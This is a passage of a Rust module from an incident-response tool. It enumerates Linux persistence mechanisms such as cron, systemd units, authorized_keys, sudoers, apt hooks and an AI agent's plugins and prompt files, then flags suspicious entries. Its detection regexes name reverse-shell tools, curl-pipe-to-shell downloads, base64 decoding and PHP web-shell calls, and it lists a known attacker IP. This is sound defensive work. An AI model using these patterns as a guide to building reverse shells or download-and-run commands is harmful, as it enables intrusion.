//! `ir persistence`: every mechanism that can bring an attacker back, read
//! under `--root`, plus OpenClaw's own: its supervisor, scheduled jobs,
//! hooks, plugins, skills, MCP servers and the prompt files (SOUL.md,
//! AGENTS.md...) every session reads.
//!
//! The host mechanisms and their locations are the table in
//! [`crate::persistence_catalogue`], the same one `ir collect` takes its
//! scope from, so whatever is judged here is also in the evidence bundle.
//! This module owns the reading and judging: a parser turns a file into
//! items (a cron line, a unit's ExecStart, a key in authorized_keys) and the
//! flag rules look at each item's command and file.

use super::packages::{Packages, Verdict};
use super::window::Window;
use crate::host::Root;
use crate::host::users::{self, User};
use crate::openclaw::{Deployment, config};
use crate::persistence_catalogue::{self as catalogue, Location, Mechanism, Parser, Runs};
use crate::sanitize::escape_path;
use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::collections::{BTreeMap, HashMap, HashSet};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

/// One thing that runs, or grants a way back in.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct Item {
    pub mechanism: String,
    pub attack: String,
    /// Host path, escaped.
    pub path: String,
    pub owner: Option<u32>,
    pub mode: Option<String>,
    pub mtime: Option<String>,
    pub ctime: Option<String>,
    pub sha256: Option<String>,
    /// The account it runs as, when the mechanism says.
    pub user: Option<String>,
    /// What it runs (escaped), or what it grants.
    pub command: Option<String>,
    pub detail: Option<String>,
    pub flags: Vec<String>,
    /// What the package database says of the file: `intact`, `modified`,
    /// `conffile-edited`, `packaged` (nothing to compare) or `unpackaged`;
    /// none where there is no dpkg database or the path is not a system one.
    #[serde(default)]
    pub package: Option<String>,
    /// The program the entry runs that raised flags of its own (host path,
    /// escaped), when it is not the entry's file itself.
    #[serde(default)]
    pub payload: Option<String>,
    /// The flags only the payload raised (the entry's own text did not):
    /// eradication acts on the payload for these, not on the entry.
    #[serde(default)]
    pub payload_flags: Vec<String>,
    /// The most serious flag's severity; none when nothing is flagged.
    #[serde(default)]
    pub severity: Option<crate::record::Severity>,
}

impl Item {
    /// Identity across runs, for baselines.
    pub fn key(&self) -> String {
        format!(
            "{}\u{0}{}\u{0}{}\u{0}{}",
            self.mechanism,
            self.path,
            self.command.as_deref().unwrap_or(""),
            self.user.as_deref().unwrap_or("")
        )
    }

    fn flag(&mut self, f: &str) {
        if !self.flags.iter().any(|x| x == f) {
            self.flags.push(f.to_string());
        }
    }
}

/// What a persistence run found.
#[derive(Debug, Clone, Serialize)]
pub struct Report {
    pub items: Vec<Item>,
    pub flagged: usize,
    pub unreadable: Vec<String>,
    /// With a baseline: what changed since.
    pub baseline: Option<Diff>,
}

/// Differences against a saved baseline.
#[derive(Debug, Clone, Serialize, Default)]
pub struct Diff {
    pub added: Vec<Item>,
    pub removed: Vec<Item>,
    pub changed: Vec<Item>,
}

fn re(cell: &'static OnceLock<Regex>, pat: &str) -> &'static Regex {
    cell.get_or_init(|| Regex::new(pat).expect("static regex"))
}

/// Known indicators of compromise (the ClawHub campaign's address...).
pub const IOCS: &[&str] = &["91.92.242.30"];

/// Flags a command or script text raises.
pub fn text_flags(text: &str) -> Vec<&'static str> {
    static TMP: OnceLock<Regex> = OnceLock::new();
    static DL: OnceLock<Regex> = OnceLock::new();
    static B64: OnceLock<Regex> = OnceLock::new();
    static REV: OnceLock<Regex> = OnceLock::new();
    let mut f = Vec::new();
    static WEB: OnceLock<Regex> = OnceLock::new();
    // Something named in the tmp dir: not the dir itself (`mountpoint
    // /dev/shm/`) nor a variable (`DIR="/tmp/$1"`).
    if re(
        &TMP,
        r#"(^|[\s'"=:;(])(/tmp|/var/tmp|/dev/shm)/[A-Za-z0-9._-]"#,
    )
    .is_match(text)
    {
        f.push("runs_from_tmp");
    } else {
        let known = [
            "local",
            "config",
            "nvm",
            "npm-global",
            "npm",
            "cargo",
            "rustup",
            "bun",
            "deno",
            "volta",
            "pyenv",
            "rbenv",
            "openclaw",
            "ssh",
            "cache",
        ];
        // A hidden directory anywhere in a path: `/x/.name/y`.
        let hidden = text
            .split(|c: char| c.is_whitespace() || "'\"=:;()".contains(c))
            .any(|tok| {
                let segs: Vec<&str> = tok.split('/').collect();
                segs.len() > 2
                    && segs[..segs.len() - 1].iter().skip(1).any(|s| {
                        s.len() > 1 && s.starts_with('.') && *s != ".." && !known.contains(&&s[1..])
                    })
            });
        if hidden {
            f.push("runs_from_tmp");
        }
    }
    if re(&DL, r"(?i)\b(curl|wget|fetch)\b[^|;&\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\b(curl|wget)\b[^\n]*\s-[oO]\s*\S+[^\n]*(;|&&)\s*(chmod\s+\+?[0-7x]+|\./|sh\s|bash\s)|\b(iwr|invoke-webrequest)\b[^\n]*\|\s*iex").is_match(text) {
        f.push("download_exec");
    }
    if re(&B64, r"(?i)\bbase64\s+(-d|--decode|-D)\b|\bb64decode\b|\bfrombase64string\b|openssl\s+(enc\s+)?-?(base64|a)\s+-d").is_match(text) {
        f.push("base64_decode");
    }
    if re(&REV, r"(?i)/dev/(tcp|udp)/|\bnc(at)?\b[^\n]*\s-[a-z]*e\s|\bsocat\b[^\n]*\bexec:|\bbash\s+-i\b|\bmkfifo\b[^\n]*\bnc\b|\bpython[23]?\s+-c\b[^\n]*\bsocket\b|\bperl\s+-e\b[^\n]*\bsocket\b").is_match(text) {
        f.push("reverse_shell");
    }
    if re(&WEB, r"(?i)\b(eval|assert|system|passthru|shell_exec|exec|popen|proc_open)\s*\(\s*(\$_(GET|POST|REQUEST|COOKIE|SERVER)|base64_decode|gzinflate|str_rot13)").is_match(text) {
        f.push("web_shell");
    }
    if IOCS.iter().any(|i| text.contains(i)) {
        f.push("ioc");
    }
    f
}

struct Ctx<'a> {
    root: &'a Root,
    window: &'a Window,
    /// The dpkg database, read when a system file is first judged (the
    /// prompt-file check recover runs before every start needs none).
    pkgs: std::cell::OnceCell<Option<Packages>>,
    users: Vec<User>,
    /// `UID_MIN` of login.defs: below it (but root) is a service account.
    uid_min: u32,
    items: Vec<Item>,
    unreadable: Vec<String>,
    /// Flags of each program already followed (by resolved host path).
    followed: HashMap<PathBuf, Vec<String>>,
    /// Packaged kernel module names, read when a module line asks.
    modules: Option<HashSet<String>>,
    /// Programs entries run that no package vouches for (host paths): the
    /// evidence a collection must hold besides the entries themselves.
    programs: Vec<PathBuf>,
}

/// Where the package manager installs: a file here that no package owns
/// was put there by a person or a script.
fn is_system_path(host: &Path) -> bool {
    ["/etc", "/usr", "/lib", "/lib64", "/bin", "/sbin"]
        .iter()
        .any(|p| host.starts_with(p))
}

/// Places that hold data, never programs: something run from here was
/// hidden there (`/var/log/spy.sh`), or is a dpkg maintainer script run
/// outside dpkg.
fn is_data_dir(host: &Path) -> bool {
    [
        "/var/log",
        "/var/spool",
        "/var/cache",
        "/var/mail",
        "/var/backups",
        "/var/lib/dpkg/info",
        "/dev",
        "/proc",
        "/run/user",
    ]
    .iter()
    .any(|p| host.starts_with(p))
}

fn fmt_ts(s: i64, n: i64) -> Option<String> {
    crate::evidence::collect::ts(s, n)
}

impl<'a> Ctx<'a> {
    fn new(root: &'a Root, window: &'a Window) -> Ctx<'a> {
        let login_defs = crate::safefs::read_bounded(&root.join("/etc/login.defs"), 1 << 20)
            .map(|b| String::from_utf8_lossy(&b).into_owned())
            .unwrap_or_default();
        Ctx {
            root,
            window,
            pkgs: std::cell::OnceCell::new(),
            users: users::users(root),
            uid_min: super::rules::uid_min(&login_defs),
            items: Vec::new(),
            unreadable: Vec::new(),
            followed: HashMap::new(),
            modules: None,
            programs: Vec::new(),
        }
    }

    /// The report: the items that have a path, and how many are flagged.
    fn finish(mut self) -> Report {
        self.items.retain(|i| !i.path.is_empty());
        // Every text taken from the host leaves here safe to print, however
        // the mechanism's parser built it (a skill's name, a cron schedule,
        // a link target, a key type can all carry escape sequences).
        for i in &mut self.items {
            for f in [&mut i.user, &mut i.command, &mut i.detail]
                .into_iter()
                .flatten()
            {
                *f = crate::sanitize::display_safe(f);
            }
            i.mechanism = crate::sanitize::display_safe(&i.mechanism);
            i.severity = super::rules::severity(&i.flags);
        }
        // Most serious first; the order is otherwise the catalogue's.
        self.items.sort_by_key(|i| {
            std::cmp::Reverse(i.severity.unwrap_or(crate::record::Severity::Info))
        });
        let flagged = self.items.iter().filter(|i| !i.flags.is_empty()).count();
        Report {
            items: self.items,
            flagged,
            unreadable: self.unreadable,
            baseline: None,
        }
    }

    /// Builds an item for a file at a local path, with its metadata.
    fn item(&self, mechanism: &str, attack: &str, local: &Path, data: Option<&[u8]>) -> Item {
        let host = self.root.host_view(local);
        let m = crate::safefs::lstat(local).ok().flatten();
        let mut flags: Vec<String> = Vec::new();
        if let Some(m) = &m {
            if self.window.contains(m.mtime(), m.mtime_nsec())
                || self.window.contains(m.ctime(), m.ctime_nsec())
            {
                flags.push("recent".into());
            }
            if m.mode() & 0o002 != 0 && !m.file_type().is_symlink() {
                flags.push("world_writable".into());
            }
        }
        let package = m
            .as_ref()
            .and_then(|m| self.package_check(&host, m, &mut flags));
        // A file with exactly the bytes its package shipped is the vendor's,
        // however recently it was installed (an upgrade in the window, a
        // fresh image): `recent` there is noise that buries the real items.
        // A link is not: a service enabled in the window stays `recent`.
        let link = m.as_ref().is_some_and(|m| m.file_type().is_symlink());
        if !link && package.as_deref() == Some(Verdict::Intact.word()) {
            flags.retain(|f| f != "recent");
        }
        Item {
            mechanism: mechanism.into(),
            attack: attack.into(),
            path: crate::sanitize::escape_path(&host),
            owner: m.as_ref().map(|m| m.uid()),
            mode: m.as_ref().map(|m| format!("{:o}", m.mode() & 0o7777)),
            mtime: m.as_ref().and_then(|m| fmt_ts(m.mtime(), m.mtime_nsec())),
            ctime: m.as_ref().and_then(|m| fmt_ts(m.ctime(), m.ctime_nsec())),
            sha256: data.map(crate::journal::sha256_hex),
            user: None,
            command: None,
            detail: None,
            flags,
            package,
            payload: None,
            payload_flags: Vec::new(),
            severity: None,
        }
    }

    /// The package verdict on an entry's file, adding `unpackaged` or
    /// `modified_package_file`. A link is judged by what it leads to
    /// under the root (a `.wants` link to a packaged unit is fine; one
    /// to nowhere runs nothing); a file a maintainer script generates
    /// ([`catalogue::GENERATED`]) by its template.
    fn package_check(
        &self,
        host: &Path,
        m: &std::fs::Metadata,
        flags: &mut Vec<String>,
    ) -> Option<String> {
        let pkgs = self.packages()?;
        if !is_system_path(host) {
            return None;
        }
        let target = if m.file_type().is_symlink() {
            let t = self.root.resolve(host)?;
            // A link to nowhere runs nothing.
            crate::safefs::lstat(&self.root.join(&t)).ok().flatten()?;
            t
        } else {
            host.to_path_buf()
        };
        let ts = target.to_string_lossy();
        let v = pkgs.verify(self.root, &ts);
        match v {
            Verdict::Unpackaged
                if is_system_path(&target) && !catalogue::generated_ok(self.root, &ts) =>
            {
                flags.push("unpackaged".into())
            }
            Verdict::Modified => flags.push("modified_package_file".into()),
            _ => {}
        }
        Some(v.word().to_string())
    }

    fn push(&mut self, mut it: Item, command: Option<&str>) {
        if let Some(c) = command {
            // A vendor's entry, unchanged since its package installed it,
            // is not judged by heuristics; what it runs still is.
            if it.package.as_deref() != Some("intact") {
                for f in text_flags(c) {
                    it.flag(f);
                }
                let rules = super::rules::entry_flags(
                    &it.mechanism,
                    it.user.as_deref(),
                    it.detail.as_deref(),
                    c,
                );
                for f in rules {
                    it.flag(f);
                }
            }
            let mut programs = super::payload::programs(c);
            // udev finds a relative RUN program in its own lib dir.
            if it.mechanism == "udev-rule"
                && let Some(w) = c.split_whitespace().next().filter(|w| !w.starts_with('/'))
            {
                programs.push(format!("/usr/lib/udev/{w}"));
            }
            self.follow(&mut it, &programs);
            it.command = Some(crate::sanitize::escape(c.trim()));
        }
        self.items.push(it);
    }

    /// The dpkg database under the root, if there is one.
    fn packages(&self) -> Option<&Packages> {
        self.pkgs.get_or_init(|| Packages::load(self.root)).as_ref()
    }

    /// True when a module a modules-load line names has no packaged `.ko`
    /// (nor a DKMS build): decidable only with a dpkg database.
    fn module_unpackaged(&mut self, line: &str) -> bool {
        let root = self.root;
        let Some(pkgs) = self.pkgs.get_or_init(|| Packages::load(root)) else {
            return false;
        };
        let Some(name) = line.split_whitespace().next() else {
            return false;
        };
        let name = name.replace('-', "_");
        let known = self.modules.get_or_insert_with(|| pkgs.module_names());
        if known.contains(&name) {
            return false;
        }
        // A DKMS build is packaged source compiled here.
        let dkms = self.root.join("/var/lib/dkms");
        [name.clone(), name.replace('_', "-")]
            .iter()
            .all(|n| crate::safefs::lstat(&dkms.join(n)).ok().flatten().is_none())
    }

    /// Judges the programs an entry runs and adds their flags to it.
    fn follow(&mut self, it: &mut Item, programs: &[String]) {
        for p in programs {
            let Some(real) = self.root.resolve(Path::new(p)) else {
                continue;
            };
            let flags = match self.followed.get(&real) {
                Some(f) => f.clone(),
                None => {
                    let f = self.judge_program(&real);
                    self.followed.insert(real.clone(), f.clone());
                    f
                }
            };
            // The first program with flags is the one named (and the one
            // eradication acts on).
            if flags.is_empty()
                || it
                    .payload
                    .as_ref()
                    .is_some_and(|p| *p != escape_path(&real))
            {
                continue;
            }
            it.payload = Some(escape_path(&real));
            for f in flags {
                if !it.flags.contains(&f) {
                    it.flags.push(f.clone());
                    it.payload_flags.push(f);
                }
            }
        }
    }

    /// Flags of one program (a resolved host path): a replaced packaged
    /// binary; else, unless the package vouches for it, the text rules on a
    /// script (an ELF is never read as text), world-writable, or kept
    /// where only data belongs.
    fn judge_program(&mut self, real: &Path) -> Vec<String> {
        let local = self.root.join(real);
        let Ok(Some(m)) = crate::safefs::lstat(&local) else {
            return Vec::new();
        };
        if !m.file_type().is_file() {
            return Vec::new();
        }
        let verdict = self
            .packages()
            .as_ref()
            .map(|p| p.verify(self.root, &real.to_string_lossy()));
        if verdict == Some(Verdict::Intact) {
            return Vec::new();
        }
        self.programs.push(real.to_path_buf());
        if verdict == Some(Verdict::Modified) {
            return vec!["modified_package_file".into()];
        }
        let mut f: Vec<String> = Vec::new();
        if m.mode() & 0o002 != 0 {
            f.push("world_writable".into());
        }
        if is_data_dir(real) {
            f.push("runs_from_data_dir".into());
        }
        if let Ok(b) = crate::safefs::read_bounded(&local, 1 << 20)
            && !b.starts_with(b"\x7fELF")
        {
            f.extend(
                text_flags(&String::from_utf8_lossy(&b))
                    .into_iter()
                    .map(String::from),
            );
        }
        f
    }

    fn read(&mut self, local: &Path) -> Option<Vec<u8>> {
        match crate::safefs::read_bounded(local, 16 << 20) {
            Ok(b) => Some(b),
            Err(e) if e.is_not_found() => None,
            Err(crate::safefs::ReadError::Symlink(_)) => None,
            Err(e) => {
                self.unreadable.push(e.to_string());
                None
            }
        }
    }

    /// Regular files directly in a dir (or the path itself if a file).
    fn files(&mut self, host_dir: &Path) -> Vec<PathBuf> {
        let local = self.root.join(host_dir);
        match crate::safefs::lstat(&local) {
            Ok(Some(m)) if m.file_type().is_dir() => {
                let mut v: Vec<PathBuf> = match std::fs::read_dir(&local) {
                    Ok(rd) => rd.flatten().take(100_000).map(|e| e.path()).collect(),
                    Err(e) => {
                        self.unreadable.push(format!("{}: {e}", local.display()));
                        Vec::new()
                    }
                };
                v.sort();
                v
            }
            Ok(Some(_)) => vec![local],
            Ok(None) => Vec::new(),
            // A dir we may not look into is a blind spot, named as such.
            Err(e) => {
                self.unreadable.push(format!("{}: {e}", local.display()));
                Vec::new()
            }
        }
    }
}

fn lines(data: &[u8]) -> impl Iterator<Item = &str> {
    std::str::from_utf8(data)
        .unwrap_or("")
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
}

/// Splits a crontab line into (schedule, user, command).
pub fn parse_cron_line(l: &str, has_user: bool) -> Option<(String, Option<String>, String)> {
    if l.split_whitespace()
        .next()
        .is_some_and(|w| w.contains('=') && !w.starts_with('@'))
    {
        return None; // VAR=value
    }
    let mut parts = l.split_whitespace();
    let sched_n = if l.starts_with('@') { 1 } else { 5 };
    let sched: Vec<&str> = parts.by_ref().take(sched_n).collect();
    if sched.len() < sched_n {
        return None;
    }
    let user = if has_user {
        Some(parts.next()?.to_string())
    } else {
        None
    };
    let cmd: Vec<&str> = parts.collect();
    if cmd.is_empty() {
        return None;
    }
    Some((sched.join(" "), user, cmd.join(" ")))
}

/// Files directly at a location. Subdirectories are skipped: the ones
/// that matter are catalogue locations of their own.
fn file_entries(c: &mut Ctx, host: &Path) -> Vec<PathBuf> {
    c.files(host)
        .into_iter()
        .filter(|f| {
            !crate::safefs::lstat(f)
                .ok()
                .flatten()
                .is_some_and(|m| m.file_type().is_dir())
        })
        .collect()
}

/// Reads one catalogue location with its mechanism's parser.
fn gather(c: &mut Ctx, loc: &Location) {
    let m = loc.mechanism;
    let host = loc.host.as_path();
    match m.parser {
        Parser::Crontab => cron(c, m, host),
        Parser::Script => scripts(c, m.id, m.attack, host),
        Parser::Keyed { suffixes, keys } => keyed(c, m.id, m.attack, host, suffixes, keys),
        Parser::Lines(runs) => listed(c, m, host, runs),
        Parser::Links => links(c, m, host),
        Parser::AuthorizedKeys => authorized_keys(c, m, host, loc.account.as_deref()),
        Parser::Sudoers => sudoers(c, m, host),
        Parser::Launchd => launchd(c, m, host),
        Parser::Linger => linger(c, m, host),
        Parser::Accounts => accounts(c, m, host),
        Parser::Listing => listing(c, m, host),
    }
}

fn cron(c: &mut Ctx, m: &Mechanism, host: &Path) {
    // System crontabs name the user on each line; a spool crontab is the
    // file of the user it is named after.
    let system = host.starts_with("/etc");
    for f in file_entries(c, host) {
        let Some(data) = c.read(&f) else { continue };
        let user = (!system)
            .then(|| f.file_name().map(|n| n.to_string_lossy().into_owned()))
            .flatten();
        let base = c.item(m.id, m.attack, &f, Some(&data));
        for l in lines(&data) {
            if let Some((sched, u, cmd)) = parse_cron_line(l, system) {
                let mut it = base.clone();
                it.user = u.or_else(|| user.clone());
                it.detail = Some(sched);
                c.push(it, Some(&cmd));
            }
        }
    }
}

/// Whole files that run as scripts (cron.daily, profile.d, rc.local...).
/// A yum/dnf plugin's `.conf` runs the plugin's Python module, read too.
/// Git's `*.sample` hooks are never run, so they are not listed.
fn scripts(c: &mut Ctx, mech: &str, attack: &str, host: &Path) {
    for f in file_entries(c, host) {
        if mech == "git-hook" && f.extension().is_some_and(|x| x == "sample") {
            continue;
        }
        script(c, mech, attack, &f);
        if mech == "dnf-plugin" {
            dnf_plugin_module(c, &f);
        }
        if mech == "at" {
            at_owner(c, &f);
        }
    }
}

/// The password field of each account in `/etc/shadow` (never shown: only
/// whether it is empty, locked or set is judged). An unreadable shadow is
/// named once, by the `account-files` listing.
fn shadow_fields(c: &Ctx) -> HashMap<String, String> {
    let Ok(b) = crate::safefs::read_bounded(&c.root.join("/etc/shadow"), 16 << 20) else {
        return HashMap::new();
    };
    String::from_utf8_lossy(&b)
        .lines()
        .filter_map(|l| {
            let mut f = l.split(':');
            Some((f.next()?.to_string(), f.next()?.to_string()))
        })
        .collect()
}

/// An at job runs as the account that queued it, which owns the job file.
fn at_owner(c: &mut Ctx, job: &Path) {
    let shown = escape_path(&c.root.host_view(job));
    let Some(it) = c.items.last_mut().filter(|i| i.path == shown) else {
        return;
    };
    it.user = it.owner.map(|uid| {
        c.users
            .iter()
            .find(|u| u.uid == uid)
            .map_or(format!("uid {uid}"), |u| u.name.clone())
    });
}

/// Where yum and dnf find the Python module of a plugin `.conf`.
const PLUGIN_MODULE_DIRS: &[&str] = &[
    "/usr/lib/yum-plugins/",
    "/usr/share/yum-plugins/",
    "/usr/lib/python3*/site-packages/dnf-plugins/",
    "/usr/lib64/python3*/site-packages/dnf-plugins/",
    "/usr/local/lib/python3*/site-packages/dnf-plugins/",
];

/// The plugin module a `.conf` enables, judged as the conf's payload.
fn dnf_plugin_module(c: &mut Ctx, conf: &Path) {
    let Some(stem) = conf
        .file_name()
        .and_then(|n| n.to_str())
        .and_then(|n| n.strip_suffix(".conf"))
    else {
        return;
    };
    let modules: Vec<String> = PLUGIN_MODULE_DIRS
        .iter()
        .flat_map(|d| catalogue::expand(c.root, d))
        .map(|d| d.join(format!("{stem}.py")).to_string_lossy().into_owned())
        .collect();
    // The conf's own item, if script() made one (an unreadable conf has none).
    let shown = escape_path(&c.root.host_view(conf));
    if c.items.last().is_some_and(|i| i.path == shown)
        && let Some(mut it) = c.items.pop()
    {
        c.follow(&mut it, &modules);
        c.items.push(it);
    }
}

fn script(c: &mut Ctx, mech: &str, attack: &str, local: &Path) {
    let Some(data) = c.read(local) else { return };
    let mut it = c.item(mech, attack, local, Some(&data));
    // An ELF (a systemd generator) is judged by its package, never as text.
    if data.starts_with(b"\x7fELF") {
        c.push(it, None);
        return;
    }
    let text = String::from_utf8_lossy(&data).into_owned();
    if it.package.as_deref() != Some("intact") {
        for l in text.lines().filter(|l| !l.trim_start().starts_with('#')) {
            for f in super::rules::entry_flags(mech, None, None, l) {
                it.flag(f);
            }
        }
    }
    let cmd = if it.package.as_deref() == Some("intact") {
        None
    } else {
        first_flagged_line(&text)
    };
    c.push(it, cmd.as_deref());
    // Then what the script runs, after its own text is judged, so a flag
    // it raises itself is never put down to a program it calls.
    let programs = super::payload::script_programs(&text);
    if let Some(mut it) = c.items.pop() {
        c.follow(&mut it, &programs);
        c.items.push(it);
    }
}

/// A script's command, for the report: its first line a flag rule catches.
fn first_flagged_line(text: &str) -> Option<String> {
    text.lines()
        .find(|l| !text_flags(l).is_empty())
        .map(str::to_owned)
}

/// `Key=value` lines of systemd units, desktop files and the like.
fn keyed(c: &mut Ctx, mech: &str, attack: &str, host_dir: &Path, suffixes: &[&str], keys: &[&str]) {
    for f in c.files(host_dir) {
        let name = f
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        if suffixes.iter().any(|s| name.ends_with(s)) {
            keyed_file(c, mech, attack, &f, keys);
            continue;
        }
        // A unit's drop-in dir (`x.service.d/`) belongs to the pass for its kind.
        let unit = name.strip_suffix(".d").unwrap_or("");
        if !unit.is_empty() && suffixes.iter().any(|s| unit.ends_with(s)) && f.is_dir() {
            let drop_ins = c.root.host_view(&f);
            keyed(c, mech, attack, &drop_ins, &[".conf"], keys);
        } else if (name.ends_with(".wants") || name.ends_with(".requires"))
            && suffixes.contains(&".service")
        {
            enablement_links(c, &f);
        }
    }
}

/// The links in a `.wants`/`.requires` dir: what is enabled, and by what.
fn enablement_links(c: &mut Ctx, dir: &Path) {
    for l in c.files(&c.root.host_view(dir)) {
        let target = std::fs::read_link(&l)
            .ok()
            .map(|t| t.to_string_lossy().into_owned());
        let mut it = c.item("systemd-enablement", "T1543.002", &l, None);
        it.detail = target;
        c.push(it, None);
    }
}

fn keyed_file(c: &mut Ctx, mech: &str, attack: &str, f: &Path, keys: &[&str]) {
    let meta = crate::safefs::lstat(f).ok().flatten();
    if meta.as_ref().is_some_and(|m| m.file_type().is_symlink()) {
        let mut it = c.item(mech, attack, f, None);
        it.detail = std::fs::read_link(f)
            .ok()
            .map(|t| format!("symlink to {}", crate::sanitize::escape_path(&t)));
        c.push(it, None);
        return;
    }
    let Some(data) = c.read(f) else { return };
    let base = c.item(mech, attack, f, Some(&data));
    let mut any = false;
    for l in lines(&data) {
        if let Some((k, v)) = l.split_once('=')
            && keys.iter().any(|key| k.trim().eq_ignore_ascii_case(key))
        {
            let mut it = base.clone();
            it.detail = Some(k.trim().to_string());
            c.push(it, Some(v.trim().trim_start_matches(['-', '@', '+', '!'])));
            any = true;
        }
    }
    if !any {
        c.push(base, None);
    }
}

/// One item per line that names a program, picked by the catalogue's [`Runs`].
fn listed(c: &mut Ctx, m: &Mechanism, host: &Path, runs: Runs) {
    for f in file_entries(c, host) {
        let Some(data) = c.read(&f) else { continue };
        let base = c.item(m.id, m.attack, &f, Some(&data));
        let entries: Vec<(String, String)> = match runs {
            // apt.conf statements span lines (`Pre-Invoke {` ⏎ `"cmd";` ⏎ `};`).
            Runs::AptInvoke => apt_hooks(&String::from_utf8_lossy(&data))
                .into_iter()
                .map(|cmd| (cmd.clone(), cmd))
                .collect(),
            _ => lines(&data)
                .filter_map(|l| pick(runs, l).map(|cmd| (l.to_string(), cmd)))
                .collect(),
        };
        for (l, cmd) in entries {
            let mut it = base.clone();
            if let Runs::Keyword(_) | Runs::Git = runs {
                // The key says what the value is (`fsmonitor`, `ProxyCommand`).
                it.detail = l
                    .split(|ch: char| ch.is_whitespace() || ch == '=')
                    .next()
                    .map(str::to_owned);
            }
            if let Runs::Module = runs
                && !l.starts_with("install ")
                && it.package.as_deref() != Some("intact")
                && c.module_unpackaged(&cmd)
            {
                it.flag("unpackaged_module");
            }
            c.push(it, Some(&cmd));
        }
    }
}

/// The commands of apt.conf hooks (`APT::Update::Pre-Invoke`,
/// `DPkg::Post-Invoke`, `DPkg::Pre-Install-Pkgs`...), in the block form
/// over any number of lines or the `Key:: "cmd";` form.
pub fn apt_hooks(text: &str) -> Vec<String> {
    static HOOK: OnceLock<Regex> = OnceLock::new();
    static QUOTED: OnceLock<Regex> = OnceLock::new();
    let flat: String = text
        .lines()
        .map(str::trim)
        .filter(|l| !l.starts_with("//") && !l.starts_with('#'))
        .collect::<Vec<_>>()
        .join(" ");
    let hook = re(
        &HOOK,
        r#"(?i)[\w:-]*(Invoke|Install-Pkgs)[\w:-]*\s*(\{[^}]*\}|"[^"]*")"#,
    );
    let quoted = re(&QUOTED, r#""([^"]*)""#);
    hook.captures_iter(&flat)
        .flat_map(|c| {
            let body = c.get(2).map_or("", |m| m.as_str()).to_string();
            quoted
                .captures_iter(&body)
                .filter_map(|q| q.get(1).map(|m| m.as_str().to_string()))
                .collect::<Vec<_>>()
        })
        .filter(|cmd| !cmd.trim().is_empty())
        .collect()
}

/// The program a line names, if it names one.
fn pick(runs: Runs, l: &str) -> Option<String> {
    match runs {
        Runs::WholeLine => Some(l.to_string()),
        Runs::Module => module_line(l),
        Runs::Containing(s) => l.contains(s).then(|| l.to_string()),
        Runs::Keyword(keys) => keyword_value(l, keys),
        Runs::Git => keyword_value(l, catalogue::GIT_COMMAND_KEYS).or_else(|| {
            let (_, v) = l.split_once('=')?;
            v.trim().strip_prefix('!').map(|c| c.trim().to_string())
        }),
        Runs::Anacron => {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.len() >= 4 && !f[0].contains('=')).then(|| f[3..].join(" "))
        }
        Runs::UdevRun => l.split(',').map(str::trim).find_map(|kv| {
            kv.strip_prefix("RUN+=")
                .or_else(|| kv.strip_prefix("RUN="))
                .map(|v| v.trim_matches('"').to_string())
        }),
        Runs::AptInvoke => (l.contains("Pre-Invoke") || l.contains("Post-Invoke")).then(|| {
            l.split_once('"')
                .map_or(l, |(_, r)| r.trim_end_matches([';', '}', '"', ' ']))
                .to_string()
        }),
    }
}

/// A module name (modules-load.d), or what a modprobe `install` line runs
/// instead of loading the module.
fn module_line(l: &str) -> Option<String> {
    if let Some(cmd) = l.strip_prefix("install ") {
        return Some(cmd.to_string());
    }
    let first = l.split_whitespace().next()?;
    let directive = [
        "alias",
        "blacklist",
        "options",
        "remove",
        "softdep",
        "weakdep",
    ];
    (!directive.contains(&first)).then(|| l.to_string())
}

/// The value of `Key value` or `Key=value` for one of `keys`.
fn keyword_value(l: &str, keys: &[&str]) -> Option<String> {
    let (k, v) = l.split_once(|c: char| c.is_whitespace() || c == '=')?;
    let v = v.trim_start_matches(|c: char| c.is_whitespace() || c == '=');
    (keys.iter().any(|key| k.eq_ignore_ascii_case(key)) && !v.is_empty())
        .then(|| v.trim().to_string())
}

/// Links to scripts (`/etc/rc2.d/S01x`): the target is what runs.
fn links(c: &mut Ctx, m: &Mechanism, host: &Path) {
    for f in file_entries(c, host) {
        match std::fs::read_link(&f) {
            Ok(t) => {
                let mut it = c.item(m.id, m.attack, &f, None);
                it.detail = Some(format!("symlink to {}", crate::sanitize::escape_path(&t)));
                c.push(it, Some(&t.to_string_lossy()));
            }
            Err(_) => script(c, m.id, m.attack, &f),
        }
    }
}

/// One authorized_keys file of one account.
fn authorized_keys(c: &mut Ctx, m: &Mechanism, host: &Path, account: Option<&str>) {
    let local = c.root.join(host);
    let Some(data) = c.read(&local) else { return };
    let base = c.item(m.id, m.attack, &local, Some(&data));
    for l in lines(&data) {
        let mut it = base.clone();
        it.user = account.map(str::to_owned);
        let fields: Vec<&str> = l.split_whitespace().collect();
        let ki = fields
            .iter()
            .position(|f| f.starts_with("ssh-") || f.starts_with("ecdsa-") || f.starts_with("sk-"));
        let comment = ki.map(|i| fields[i + 2..].join(" ")).unwrap_or_default();
        let options = ki.map(|i| fields[..i].join(" ")).unwrap_or_default();
        // The blob's hash tells keys with the same comment apart.
        let blob = ki.and_then(|i| fields.get(i + 1)).copied().unwrap_or("");
        it.detail = Some(
            format!(
                "{} {} {}",
                ki.map(|i| fields[i]).unwrap_or("?"),
                &crate::journal::sha256_hex(blob.as_bytes())[..16],
                crate::sanitize::escape(&comment)
            )
            .trim()
            .to_string(),
        );
        if let Some(u) = account.and_then(|a| c.users.iter().find(|u| u.name == a))
            && super::rules::is_system_account(u, c.uid_min)
        {
            it.flag("ssh_key_system_account");
        }
        // A forced command= is what such a key runs.
        let cmd = options
            .split("command=\"")
            .nth(1)
            .and_then(|r| r.split('"').next())
            .map(str::to_owned);
        c.push(it, cmd.as_deref());
    }
}

fn sudoers(c: &mut Ctx, m: &Mechanism, host: &Path) {
    for f in file_entries(c, host) {
        let Some(data) = c.read(&f) else { continue };
        let base = c.item(m.id, m.attack, &f, Some(&data));
        let rules = lines(&data).filter(|l| {
            !l.starts_with("Defaults") && !l.starts_with("@include") && l.contains('=')
        });
        for l in rules {
            let mut it = base.clone();
            if l.contains("NOPASSWD") {
                it.flags.push("nopasswd".into());
            }
